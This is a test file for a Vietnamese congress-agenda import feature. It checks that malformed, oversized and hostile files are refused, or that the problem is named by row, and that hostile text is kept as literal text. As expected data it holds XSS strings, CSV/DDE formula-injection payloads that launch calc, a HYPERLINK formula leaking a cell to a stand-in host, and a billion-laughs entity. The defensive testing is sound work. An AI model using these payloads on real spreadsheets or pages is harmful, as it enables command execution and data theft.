// The agenda import corpus (tests/fixtures/agenda, made by its generate.mjs): malformed and hostile
// agenda files. Each is refused with the problem that explains it and nothing imported, or gives
// the problem of each bad cell by row and column and imports the rest, keeping text as text.

import i18next from 'i18next';
import { describe, expect, test } from 'vitest';
import { LANGUAGES } from '../domain/congress/model.js';
import { resources } from '../i18n/resources.js';
import { MAX_AGENDA_FILE_BYTES } from './import.js';
import { AGENDA_CORPUS, imported, preview, previewFixture, problem, problemsOf, utf8 } from '../../tests/fixtures/agenda/support.js';
import { ROSTER_CORPUS } from '../../tests/fixtures/roster/support.js';
import { unnamedFiles } from '../../tests/fixtures/corpus.js';

const titles = (result: Awaited<ReturnType<typeof previewFixture>>) => imported(result).map((i) => [i.row, i.fields.title]);

describe('files that are no agenda, or none the desk can read: refused, nothing imported', () => {
  test.each([
    ['windows-1258.csv', 'notUtf8'],
    ['invalid-utf8-after-4k.csv', 'notUtf8'],
    ['encoded-surrogates.csv', 'notUtf8'],
    ['utf32le-bom.csv', 'binary'],
    ['binary-junk.csv', 'binary'],
    ['gzip-renamed.csv', 'binary'],
    ['nul-bytes.csv', 'binary'],
    ['random-bytes.xlsx', 'notZip'],
    ['not-a-zip.xlsx', 'notZip'],
    ['truncated.xlsx', 'xlsxUnreadable'],
    ['zip-bomb-declared.xlsx', 'xlsxTooLarge'],
    ['legacy-excel-97.xls', 'legacyXls'],
    ['web-page.xls', 'htmlFile'],
    ['roster-instead.csv', 'missingTitleColumn'],
    ['json-renamed.csv', 'missingTitleColumn'],
    ['missing-title-column.csv', 'missingTitleColumn'],
    ['empty.csv', 'empty'],
    ['blank-lines.csv', 'empty'],
    ['header-only.csv', 'headerOnly'],
  ] as const)('%s: %s', async (name, code) => {
    const result = await previewFixture(name);
    expect(result.fileProblem).toEqual({ code, params: {} });
    expect(result.items).toEqual([]);
  });

  test('a PDF says which kind of file it is', async () => {
    const result = await previewFixture('document.pdf');
    expect(result.fileProblem).toEqual({ code: 'unsupportedType', params: { extension: 'pdf' } });
    expect(result.items).toEqual([]);
  });

  test('1,001 items, more than an agenda holds: refused whole, with the count', async () => {
    const result = await previewFixture('too-many-rows.csv');
    expect(result.fileProblem).toEqual({ code: 'tooManyRows', params: { count: 1001, max: 1000 } });
    expect(result.totalRows).toBe(1001);
    expect(result.items).toEqual([]);
  });
});

describe('each bad cell named by row and column, its row left out, the rest imported', () => {
  test('times no clock shows, an end before its start, a word for a time', async () => {
    const result = await previewFixture('impossible-times.csv');
    expect(problemsOf(result)).toEqual([
      problem(2, 'startFormat', 'Thời gian', '25:00'),
      problem(3, 'startFormat', 'Thời gian', '7:75'),
      problem(4, 'startFormat', 'Thời gian', '8h - 7h'),
      problem(5, 'startFormat', 'Thời gian', 'sáng'),
      problem(6, 'startFormat', 'Thời gian', '24:00'),
      problem(7, 'startFormat', 'Thời gian', '99999'),
    ]);
    expect(imported(result).map((i) => [i.row, i.fields.title, i.fields.fixedStart, i.fields.durationMinutes])).toEqual([[8, 'Thảo luận', '09:30', 15]]);
  });

  test('lengths in words, negative, longer than a day, in fractions, or 1 hour 70', async () => {
    const result = await previewFixture('impossible-durations.csv');
    expect(problemsOf(result)).toEqual([
      problem(2, 'durationFormat', 'Thời lượng', 'mười lăm'),
      problem(3, 'durationFormat', 'Thời lượng', '-5'),
      problem(4, 'durationFormat', 'Thời lượng', '601'),
      problem(5, 'durationFormat', 'Thời lượng', '2.5'),
      problem(6, 'durationFormat', 'Thời lượng', '1h70'),
    ]);
    expect(titles(result)).toEqual([[7, 'Bế mạc']]);
  });

  test('kinds no congress has, markup for a kind among them', async () => {
    const result = await previewFixture('unknown-kinds.csv');
    expect(problemsOf(result)).toEqual([
      problem(2, 'kindUnknown', 'Loại', 'Hòa nhạc'),
      problem(3, 'kindUnknown', 'Loại', 'Concert'),
      problem(4, 'kindUnknown', 'Loại', '<b>Báo cáo</b>'),
    ]);
    expect(imported(result).map((i) => [i.row, i.fields.kind])).toEqual([[5, 'election']]);
  });

  test('titles left out, or of invisible characters only', async () => {
    const result = await previewFixture('titles-missing.csv');
    expect(problemsOf(result)).toEqual([problem(2, 'titleMissing', 'Nội dung'), problem(3, 'titleMissing', 'Nội dung')]);
    expect(titles(result)).toEqual([[4, 'Bế mạc']]);
  });

  test('a title of 10,000 characters is too long, and only that', async () => {
    const result = await previewFixture('title-10000-chars.csv');
    expect(problemsOf(result)).toEqual([problem(2, 'tooLong', 'Nội dung')]);
    expect(result.problems[0]?.params).toEqual({ row: 2, column: 'Nội dung', length: 9999, max: 300 });
    expect(titles(result)).toEqual([[3, 'Giải lao']]);
  });

  test('a word under 300 combining accents is too long, counted as it is stored', async () => {
    const result = await previewFixture('combining-mark-flood.csv');
    expect(result.problems.map((p) => p.params)).toEqual([{ row: 2, column: 'Nội dung', length: 306, max: 300 }]);
    expect(titles(result)).toEqual([[3, 'Giải lao']]);
  });

  test('a sub-item before any item belongs to none', async () => {
    const result = await previewFixture('sub-item-first.csv');
    expect(problemsOf(result)).toEqual([problem(2, 'subItemFirst', 'STT', '1.1')]);
    expect(result.items.map((i) => [i.row, i.fields.title, i.subItems.map((s) => [s.row, s.fields.title])])).toEqual([[3, 'Thảo luận', [[4, 'Tham luận Sở Tài chính']]]]);
  });

  test('a quote never closed: its row is left out, and what it swallowed with it', async () => {
    const result = await previewFixture('unclosed-quote.csv');
    expect(problemsOf(result)).toEqual([problem(3, 'unclosedQuote', null)]);
    expect(titles(result)).toEqual([[2, 'Chào cờ']]);
  });

  test('a title with an unquoted comma shifts its row: the cells it pushed along are named', async () => {
    const result = await previewFixture('shifted-columns.csv');
    expect(problemsOf(result)).toEqual([problem(3, 'kindUnknown', 'Loại', 'kiểm điểm'), problem(3, 'durationFormat', 'Thời lượng', 'Báo cáo')]);
    expect(titles(result)).toEqual([[2, 'Chào cờ']]);
  });

  test('columns the preview does not know, or twice, are named on the heading row and ignored', async () => {
    const result = await previewFixture('duplicate-and-unknown-columns.csv');
    expect(problemsOf(result, 'warning')).toEqual([
      problem(1, 'unknownColumn', 'Màu áo'),
      problem(1, 'duplicateColumn', 'Nội dung'),
      problem(1, 'unknownColumn', 'Phòng họp'),
      problem(2, 'durationMissing', null),
    ]);
    expect(titles(result)).toEqual([[2, 'Chào cờ']]);
  });

  test('a workbook: a title row, times as fractions of a day and as time cells; a day and a half, a negative length', async () => {
    const result = await previewFixture('agenda.xlsx');
    expect(problemsOf(result)).toEqual([problem(5, 'startFormat', 'Thời gian', '1.5'), problem(6, 'durationFormat', 'Thời lượng', '-5')]);
    expect(imported(result).map((i) => [i.row, i.fields.title, i.fields.fixedStart, i.fields.durationMinutes])).toEqual([
      [3, 'Chào cờ', '08:00', 5],
      [4, 'Tuyên bố lý do', '08:05', 10],
    ]);
  });
});

describe('hostile text, imported exactly as text', () => {
  test('markup and script in titles, presenters and notes', async () => {
    const result = await previewFixture('markup-in-titles.csv');
    expect(titles(result)).toEqual([
      [2, '<img src=x onerror=alert(1)>'],
      [3, '<script>alert("x")</script>'],
      [4, '<a href="javascript:alert(1)">Báo cáo</a>'],
      [5, '&lt;b&gt;Giải lao&lt;/b&gt;'],
    ]);
    expect(result.items[0]?.fields).toMatchObject({ presenter: { kind: 'guest', name: '<b>Nguyễn Văn An</b>', title: '<i>Bí thư</i>' }, notes: '<script>alert(1)</script>' });
  });

  test('formula and DDE payloads are kept as typed, never evaluated', async () => {
    const result = await previewFixture('formulas.csv');
    expect(imported(result).map((i) => [i.fields.title, i.fields.presenter?.kind === 'guest' ? i.fields.presenter.name : null, i.fields.description, i.fields.notes])).toEqual([
      ['=HYPERLINK("http://example.invalid?leak="&A1,"Bấm")', '+84 912 345 678', "=cmd|' /C calc'!A0", '@SUM(1+1)'],
      ["-2+3+cmd|' /C calc'!A0", '=1+1', '', ''],
    ]);
  });

  test('a workbook keeps a formula cell as the value Excel last showed, not the formula', async () => {
    const result = await previewFixture('formula-cells.xlsx');
    expect(imported(result).map((i) => [i.fields.title, i.fields.presenter])).toEqual([
      ['Báo cáo chính trị', { kind: 'guest', name: 'Nguyễn Văn Lâm', title: '' }],
      ['Giải lao', { kind: 'guest', name: 'Trần Thị Bình', title: '' }],
    ]);
  });

  test('nested XML entities (a "billion laughs") are not expanded: the cell keeps its literal text', async () => {
    const result = await previewFixture('xml-entity-bomb.xlsx');
    expect(titles(result)).toEqual([
      [3, 'Chào cờ'],
      [4, '&lol9;'],
    ]);
  });

  test('right-to-left overrides, direction marks and zero-width spaces are dropped', async () => {
    const result = await previewFixture('bidi-marks.csv');
    expect(titles(result)).toEqual([
      [2, 'Báo cáo chính trị'],
      [3, 'Giải lao'],
    ]);
    expect(result.items[0]?.fields.presenter).toEqual({ kind: 'guest', name: 'Nguyễn Văn Lâm', title: '' });
  });

  test('template syntax is kept, and a message quoting it quotes it literally', async () => {
    const result = await previewFixture('template-syntax.csv');
    expect(titles(result)).toEqual([[2, '{{row}} $t(errors.internal)']]);
    expect(problemsOf(result, 'error')).toEqual([problem(3, 'kindUnknown', 'Loại', '$t(import.file.binary) {{value}}')]);
    const unknown = result.problems.find((p) => p.code === 'kindUnknown');
    if (!unknown) throw new Error('no kindUnknown problem');
    for (const language of LANGUAGES) {
      const i18n = i18next.createInstance();
      await i18n.init({ lng: language, resources, interpolation: { escapeValue: false } });
      const text = i18n.t(`agenda.import.row.${unknown.code}`, unknown.params);
      expect(text).toContain('$t(import.file.binary) {{value}}');
      expect(text).toContain('Loại');
    }
  });

  test('emoji and characters beyond the Basic Multilingual Plane are kept; invisible joiners go', async () => {
    expect(titles(await previewFixture('emoji-and-astral.csv'))).toEqual([
      [2, 'Chào mừng Đại hội 🇻🇳'],
      [3, 'Văn nghệ 👩👩👧 𠀧'],
    ]);
  });

  test('decomposed Vietnamese is stored composed, and still finds its presenter on the roster', async () => {
    const result = await previewFixture('nfd-titles.csv');
    expect(imported(result).map((i) => [i.fields.title, i.fields.presenter])).toEqual([['Diễn văn khai mạc Đại hội', { kind: 'delegate', delegateId: 'd2' }]]);
  });

  test('presenters: a code in any case; a name not on the roster, or shared by two, becomes a guest', async () => {
    const result = await previewFixture('presenters.csv');
    expect(imported(result).map((i) => i.fields.presenter)).toEqual([
      { kind: 'delegate', delegateId: 'd1' },
      { kind: 'guest', name: 'Nguyễn Văn Lâm', title: 'Bí thư Tỉnh ủy' },
      { kind: 'guest', name: 'Nguyễn Văn An', title: '' },
    ]);
    expect(problemsOf(result).filter((p) => p.code === 'presenterAsGuest')).toEqual([
      problem(3, 'presenterAsGuest', 'Người trình bày', 'Nguyễn Văn Lâm'),
      problem(4, 'presenterAsGuest', 'Người trình bày', 'Nguyễn Văn An'),
    ]);
  });

  test('Excel\'s "Unicode Text" (UTF-16, tabs) and old Mac line ends read as they are', async () => {
    expect(imported(await previewFixture('unicode-text-utf16le.txt')).map((i) => [i.fields.title, i.fields.fixedStart])).toEqual([
      ['Chào cờ, hát Quốc ca', '08:00'],
      ['Diễn văn khai mạc', '08:05'],
    ]);
    expect(titles(await previewFixture('cr-only-line-ends.csv'))).toEqual([
      [2, 'Chào cờ'],
      [3, 'Khai mạc'],
    ]);
  });
});

describe('files too big to commit', () => {
  test('a file of 50 MB is refused by its size before it is read', async () => {
    const result = await preview(new Uint8Array(50 * 1024 * 1024).fill(0x41), 'huge.csv');
    expect(result.fileProblem).toEqual({ code: 'tooLarge', params: { size: 51_200, max: MAX_AGENDA_FILE_BYTES / 1024 } });
  });

  test('a million empty lines are skipped, and the row after them keeps its true number', async () => {
    const result = await preview(utf8(`STT,Nội dung,Thời lượng\n1,Chào cờ,5\n${'\n'.repeat(1_000_000)}2,Bế mạc,10\n`), 'sparse.csv');
    expect(result.fileProblem).toBeNull();
    expect(result.totalRows).toBe(2);
    expect(titles(result)).toEqual([
      [2, 'Chào cờ'],
      [1_000_003, 'Bế mạc'],
    ]);
  });

  test('a title of 900,000 characters, just under the size limit, is an error on its row, read without trouble', async () => {
    const result = await preview(utf8(`Nội dung,Thời lượng\n${'Bao cao '.repeat(112_500)},5\nGiải lao,10\n`), 'big-cell.csv');
    expect(result.problems[0]?.params).toMatchObject({ length: 899_999, max: 300 });
    expect(problemsOf(result)).toEqual([problem(2, 'tooLong', 'Nội dung')]);
    expect(titles(result)).toEqual([[3, 'Giải lao']]);
  });
});

describe('the corpus', () => {
  test('has at least 30 files, a test names every one, and with the roster corpus it is well over 30', async () => {
    const files = AGENDA_CORPUS.files();
    expect(files.length).toBeGreaterThanOrEqual(30);
    expect(files.length + ROSTER_CORPUS.files().length).toBeGreaterThanOrEqual(80);
    expect(await unnamedFiles(files, new URL('./', import.meta.url))).toEqual([]);
    for (const name of files) await previewFixture(name);
  });
});
